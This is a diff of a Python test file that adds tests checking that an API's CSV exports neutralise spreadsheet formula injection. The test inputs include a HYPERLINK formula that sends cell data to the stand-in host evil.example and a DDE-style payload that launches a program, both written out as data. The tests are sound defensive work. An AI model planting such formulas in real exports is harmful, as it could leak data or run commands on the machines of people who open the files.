@@ -8,8 +8,10 @@ import io
 import json
 from decimal import Decimal
 
+import pytest
 from sqlalchemy import select
 
+from api import exports
 from api.db import transaction
 from api.domain import callers, numbers, rates
 from api.domain.actors import SYSTEM
@@ -531,6 +533,59 @@ async def test_sub_account_report_and_csv(gql, world, sessions):
     ]
     assert [r["dids_monthly_price"] for r in lines] == ["10.00", "0.00"]
     assert {r["currency"] for r in lines} == {"USD"}
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+async def test_exports_show_a_formula_named_client_as_text_and_keep_amounts_numbers(
+    gql, world, sessions
+):
+    await report_world(gql, world, sessions)
+    acme = world.tokens["acme"]
+    # given a client whose name is a spreadsheet formula
+    body = await gql(
+        "mutation($c: ID!, $n: String!) { clientUpdate(input: {id: $c, name: $n})"
+        " { errors { code } } }",
+        {"c": gid("Client", world.acme_client_id), "n": FORMULA},
+        token=acme,
+    )
+    assert body["data"]["clientUpdate"]["errors"] == []
+    async with gql.client() as http:
+        auth = {"Authorization": f"Bearer {acme}"}
+        subs = list(
+            csv.DictReader(
+                io.StringIO((await http.get("/exports/sub-accounts.csv", headers=auth)).text)
+            )
+        )
+        dids = list(
+            csv.DictReader(io.StringIO((await http.get("/exports/dids.csv", headers=auth)).text))
+        )
+    # then each export writes it behind an apostrophe, so a spreadsheet shows it and runs nothing
+    assert [r["client"] for r in subs] == ["'" + FORMULA, "Arnold"]
+    assert {r["client"] for r in dids} == {"'" + FORMULA, ""}
+    # and the amounts are still the numbers they were
+    assert [r["dids_monthly_price"] for r in subs] == ["10.00", "0.00"]
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+2", "'=1+2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-1.50", "-1.50"),
+        ("+14155550100", "+14155550100"),
+        ("Alice", "Alice"),
+        ("", ""),
+        (12, 12),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(cell, written):
+    assert exports.csv_cell(cell) == written
 
 
 # --- batched loads and the walk's documents ----------------------------------------------------
